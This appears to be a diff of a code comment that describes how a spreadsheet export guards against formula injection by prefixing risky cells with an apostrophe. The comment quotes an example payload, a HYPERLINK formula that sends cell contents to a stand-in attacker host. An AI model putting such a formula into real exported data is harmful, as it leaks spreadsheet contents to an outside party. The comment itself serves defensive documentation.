@@ -1,5 +1,5 @@
 /*
- * Spreadsheet formula injection (DESIGN §4). A spreadsheet runs a cell that starts with
+ * Spreadsheet formula injection (docs/architecture.md, "Security rules"). A spreadsheet runs a cell that starts with
  * = + - @ (or a tab or CR before one) as a formula, so an exported title such as
  * =HYPERLINK("http://evil.example/?x="&A1) would act when the file is opened. Export puts
  * one apostrophe in front of such a cell — spreadsheets show the text and hide the mark —
